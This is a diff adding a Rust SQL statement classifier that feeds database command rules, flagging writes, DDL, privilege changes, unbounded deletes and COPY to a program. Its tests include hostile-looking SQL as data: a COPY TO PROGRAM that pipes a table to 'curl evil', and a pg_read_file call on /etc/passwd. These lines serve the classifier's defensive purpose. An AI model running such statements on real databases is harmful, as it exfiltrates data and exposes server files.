@@ -1,0 +1,332 @@
+//! What a SQL statement does, as command rules need to know it: its kind, the
+//! tables it touches, the functions it calls, whether it writes without a
+//! bound, and where COPY goes. Parsed with sqlparser's Postgres dialect.
+//!
+//! Anything this cannot read is reported as an error, and callers refuse it
+//! (fail closed). A statement that parses but is of a sort not listed here is
+//! of kind `unknown`.
+
+use std::collections::BTreeSet;
+use std::ops::ControlFlow;
+
+use sqlparser::ast::{
+    CopyTarget, Expr, FromTable, ObjectName, SetExpr, Statement as Ast, TableFactor, visit_expressions, visit_relations,
+};
+use sqlparser::dialect::PostgreSqlDialect;
+use sqlparser::parser::Parser;
+
+use crate::policy::StatementKind;
+
+/// The longest statement the classifier reads; longer ones are refused.
+pub const MAX_STATEMENT_BYTES: usize = 1024 * 1024;
+/// How deeply expressions may nest before the parser gives up.
+const RECURSION_LIMIT: usize = 64;
+
+/// One classified statement.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Classified {
+    pub kind: Option<StatementKind>,
+    /// Every table or view it names, lowercased as Postgres folds unquoted names,
+    /// each both qualified as written (`public.users`) and bare (`users`).
+    pub tables: BTreeSet<String>,
+    /// Functions it calls, by bare lowercased name.
+    pub functions: BTreeSet<String>,
+    /// A DELETE or UPDATE with no WHERE, or one whose WHERE names no column.
+    pub unbounded_write: bool,
+    /// `COPY ... TO/FROM PROGRAM`: runs a shell command on the database server.
+    pub copy_program: bool,
+}
+
+impl Classified {
+    pub fn kind(&self) -> StatementKind {
+        self.kind.unwrap_or(StatementKind::Unknown)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ClassifyError {
+    #[error("the statement is longer than {MAX_STATEMENT_BYTES} bytes")]
+    TooLong,
+    #[error("the statement is not valid UTF-8")]
+    NotUtf8,
+    #[error("the statement could not be parsed: {0}")]
+    Parse(String),
+}
+
+/// Classifies every statement in `sql` (a simple query may hold several).
+pub fn classify(sql: &str) -> Result<Vec<Classified>, ClassifyError> {
+    if sql.len() > MAX_STATEMENT_BYTES {
+        return Err(ClassifyError::TooLong);
+    }
+    let statements = Parser::new(&PostgreSqlDialect {})
+        .with_recursion_limit(RECURSION_LIMIT)
+        .try_with_sql(sql)
+        .and_then(|mut p| p.parse_statements())
+        .map_err(|e| ClassifyError::Parse(e.to_string()))?;
+    Ok(statements.iter().map(classify_one).collect())
+}
+
+/// Classifies statement text given as bytes in the client's encoding; text
+/// that is not UTF-8 cannot be read and is refused.
+pub fn classify_bytes(sql: &[u8]) -> Result<Vec<Classified>, ClassifyError> {
+    if sql.len() > MAX_STATEMENT_BYTES {
+        return Err(ClassifyError::TooLong);
+    }
+    classify(std::str::from_utf8(sql).map_err(|_| ClassifyError::NotUtf8)?)
+}
+
+fn classify_one(statement: &Ast) -> Classified {
+    let mut c = Classified { kind: Some(kind_of(statement)), ..Classified::default() };
+    let _ = visit_relations(statement, |name: &ObjectName| {
+        add_table(&mut c.tables, name);
+        ControlFlow::<()>::Continue(())
+    });
+    let _ = visit_expressions(statement, |expr: &Expr| {
+        if let Expr::Function(f) = expr {
+            c.functions.insert(bare(&f.name));
+        }
+        ControlFlow::<()>::Continue(())
+    });
+    match statement {
+        Ast::Delete(d) => {
+            c.unbounded_write = d.selection.as_ref().is_none_or(names_no_column);
+            let from = match &d.from {
+                FromTable::WithFromKeyword(t) | FromTable::WithoutKeyword(t) => t,
+            };
+            for t in from {
+                if let TableFactor::Table { name, .. } = &t.relation {
+                    add_table(&mut c.tables, name);
+                }
+            }
+        }
+        Ast::Update(u) => c.unbounded_write = u.selection.as_ref().is_none_or(names_no_column),
+        Ast::Copy { target: CopyTarget::Program { .. }, .. } => c.copy_program = true,
+        _ => {}
+    }
+    c
+}
+
+fn kind_of(statement: &Ast) -> StatementKind {
+    use StatementKind::*;
+    match statement {
+        Ast::Query(q) => match q.body.as_ref() {
+            // SELECT ... INTO creates a table.
+            SetExpr::Select(s) if s.into.is_some() => Ddl,
+            _ if q.with.as_ref().is_some_and(|w| w.cte_tables.iter().any(|cte| !is_plain_query(&cte.query.body))) => {
+                Write
+            }
+            SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => Write,
+            _ => Read,
+        },
+        Ast::Insert(_) | Ast::Update(_) | Ast::Delete(_) | Ast::Merge(_) | Ast::Truncate(_) => Write,
+        Ast::Copy { to, .. } => {
+            if *to {
+                Read
+            } else {
+                Write
+            }
+        }
+        Ast::CreateView(_)
+        | Ast::CreateTable(_)
+        | Ast::CreateIndex(_)
+        | Ast::CreateSchema { .. }
+        | Ast::CreateDatabase { .. }
+        | Ast::CreateFunction(_)
+        | Ast::CreateTrigger(_)
+        | Ast::CreateProcedure { .. }
+        | Ast::CreateSequence { .. }
+        | Ast::CreateDomain(_)
+        | Ast::CreateType { .. }
+        | Ast::CreateExtension(_)
+        | Ast::CreateCollation(_)
+        | Ast::CreatePolicy(_)
+        | Ast::CreateRule(_)
+        | Ast::CreateServer(_)
+        | Ast::CreateForeignTable(_)
+        | Ast::CreateForeignDataWrapper(_)
+        | Ast::CreateOperator(_)
+        | Ast::CreateOperatorFamily(_)
+        | Ast::CreateOperatorClass(_)
+        | Ast::CreateTextSearch(_)
+        | Ast::CreateAggregate(_)
+        | Ast::AlterTable(_)
+        | Ast::AlterSchema(_)
+        | Ast::AlterIndex { .. }
+        | Ast::AlterView(_)
+        | Ast::AlterFunction(_)
+        | Ast::AlterType(_)
+        | Ast::AlterCollation(_)
+        | Ast::AlterOperator(_)
+        | Ast::AlterOperatorFamily(_)
+        | Ast::AlterOperatorClass(_)
+        | Ast::AlterTextSearch(_)
+        | Ast::AlterPolicy(_)
+        | Ast::AlterTrigger(_)
+        | Ast::Drop { .. }
+        | Ast::DropFunction(_)
+        | Ast::DropDomain(_)
+        | Ast::DropProcedure { .. }
+        | Ast::DropPolicy(_)
+        | Ast::DropRule(_)
+        | Ast::DropExtension(_)
+        | Ast::DropOperator(_)
+        | Ast::DropOperatorFamily(_)
+        | Ast::DropOperatorClass(_)
+        | Ast::DropTrigger(_)
+        | Ast::Comment { .. }
+        | Ast::RefreshMaterializedView(_)
+        | Ast::RenameTable(_) => Ddl,
+        Ast::Grant(_)
+        | Ast::GrantRole(_)
+        | Ast::Revoke(_)
+        | Ast::RevokeRole(_)
+        | Ast::AlterDefaultPrivileges(_)
+        | Ast::CreateRole(_)
+        | Ast::AlterRole { .. }
+        | Ast::CreateUser(_)
+        | Ast::AlterUser(_)
+        | Ast::CreateUserMapping(_) => Dcl,
+        Ast::StartTransaction { .. }
+        | Ast::Commit { .. }
+        | Ast::Rollback { .. }
+        | Ast::Savepoint { .. }
+        | Ast::ReleaseSavepoint { .. } => Transaction,
+        Ast::Vacuum(_) | Ast::Analyze(_) | Ast::Kill { .. } => Admin,
+        Ast::Set(set) => match set {
+            // Changing who the session is, is about privileges.
+            sqlparser::ast::Set::SetRole { .. } | sqlparser::ast::Set::SetSessionAuthorization(_) => Dcl,
+            sqlparser::ast::Set::SetTransaction { .. } => Transaction,
+            _ => Utility,
+        },
+        Ast::ShowVariable { .. }
+        | Ast::ShowVariables { .. }
+        | Ast::Reset(_)
+        | Ast::Discard { .. }
+        | Ast::Declare { .. }
+        | Ast::Fetch { .. }
+        | Ast::Close { .. }
+        | Ast::Deallocate { .. }
+        | Ast::LISTEN { .. }
+        | Ast::UNLISTEN { .. }
+        | Ast::NOTIFY { .. }
+        | Ast::Lock(_) => Utility,
+        // What these run is decided elsewhere; they are read as what they contain.
+        Ast::Explain { statement, analyze, .. } => {
+            let inner = kind_of(statement);
+            if *analyze { inner } else { Read }
+        }
+        Ast::Prepare { statement, .. } => kind_of(statement),
+        _ => Unknown,
+    }
+}
+
+fn is_plain_query(body: &SetExpr) -> bool {
+    match body {
+        SetExpr::Select(_) | SetExpr::Values(_) | SetExpr::Table(_) => true,
+        SetExpr::Query(q) => is_plain_query(&q.body),
+        SetExpr::SetOperation { left, right, .. } => is_plain_query(left) && is_plain_query(right),
+        _ => false,
+    }
+}
+
+/// A WHERE clause that names no column is true (or false) for every row.
+fn names_no_column(selection: &Expr) -> bool {
+    let found = visit_expressions(selection, |e: &Expr| match e {
+        Expr::Identifier(_) | Expr::CompoundIdentifier(_) | Expr::Subquery(_) | Expr::Exists { .. } => {
+            ControlFlow::Break(())
+        }
+        _ => ControlFlow::Continue(()),
+    });
+    found.is_continue()
+}
+
+/// The last part of a name, folded as Postgres folds unquoted identifiers.
+fn bare(name: &ObjectName) -> String {
+    name.0.last().map(|part| fold(&part.to_string())).unwrap_or_default()
+}
+
+fn fold(part: &str) -> String {
+    match part.strip_prefix('"').and_then(|p| p.strip_suffix('"')) {
+        Some(quoted) => quoted.replace("\"\"", "\""),
+        None => part.to_lowercase(),
+    }
+}
+
+fn add_table(tables: &mut BTreeSet<String>, name: &ObjectName) {
+    let parts: Vec<String> = name.0.iter().map(|p| fold(&p.to_string())).collect();
+    if let Some(last) = parts.last() {
+        tables.insert(last.clone());
+    }
+    if parts.len() > 1 {
+        tables.insert(parts.join("."));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one(sql: &str) -> Classified {
+        let mut all = classify(sql).unwrap();
+        assert_eq!(all.len(), 1, "{sql}");
+        all.remove(0)
+    }
+
+    #[test]
+    fn kinds() {
+        use StatementKind::*;
+        for (sql, kind) in [
+            ("SELECT 1", Read),
+            ("select * from users where id = 1", Read),
+            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Write),
+            ("INSERT INTO t VALUES (1)", Write),
+            ("UPDATE t SET a = 1 WHERE id = 2", Write),
+            ("DELETE FROM t WHERE id = 2", Write),
+            ("TRUNCATE t", Write),
+            ("COPY t FROM STDIN", Write),
+            ("COPY t TO STDOUT", Read),
+            ("CREATE TABLE t (id int)", Ddl),
+            ("DROP TABLE t", Ddl),
+            ("ALTER TABLE t ADD COLUMN b int", Ddl),
+            ("SELECT * INTO t2 FROM t", Ddl),
+            ("GRANT SELECT ON t TO bob", Dcl),
+            ("SET ROLE postgres", Dcl),
+            ("SET SESSION AUTHORIZATION postgres", Dcl),
+            ("BEGIN", Transaction),
+            ("COMMIT", Transaction),
+            ("SET statement_timeout = 5", Utility),
+            ("EXPLAIN DELETE FROM t", Read),
+            ("EXPLAIN ANALYZE DELETE FROM t", Write),
+            ("VACUUM t", Admin),
+        ] {
+            assert_eq!(one(sql).kind(), kind, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_functions_and_unbounded_writes() {
+        let c = one(
+            "SELECT pg_catalog.PG_READ_FILE('/etc/passwd'), lower(email) FROM public.Users u JOIN \"Orders\" o ON true",
+        );
+        assert!(c.functions.contains("pg_read_file") && c.functions.contains("lower"), "{c:?}");
+        for t in ["users", "public.users", "Orders"] {
+            assert!(c.tables.contains(t), "{t} in {c:?}");
+        }
+        assert!(one("DELETE FROM t").unbounded_write);
+        assert!(one("DELETE FROM t WHERE 1 = 1").unbounded_write);
+        assert!(one("UPDATE t SET a = 1 WHERE true").unbounded_write);
+        assert!(!one("DELETE FROM t WHERE id = 3").unbounded_write);
+        assert!(!one("UPDATE t SET a = 1 WHERE id IN (SELECT 1)").unbounded_write);
+        assert!(one("DELETE FROM t").tables.contains("t"));
+        assert!(one("COPY t TO PROGRAM 'curl evil'").copy_program);
+    }
+
+    #[test]
+    fn several_statements_and_garbage() {
+        assert_eq!(classify("SELECT 1; DROP TABLE t").unwrap().len(), 2);
+        assert!(matches!(classify("SELEC 1"), Err(ClassifyError::Parse(_))));
+        assert_eq!(classify_bytes(b"SELECT '\xe9'"), Err(ClassifyError::NotUtf8));
+        let deep = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
+        assert!(classify(&deep).is_err(), "deep nesting is refused, not a stack overflow");
+    }
+}
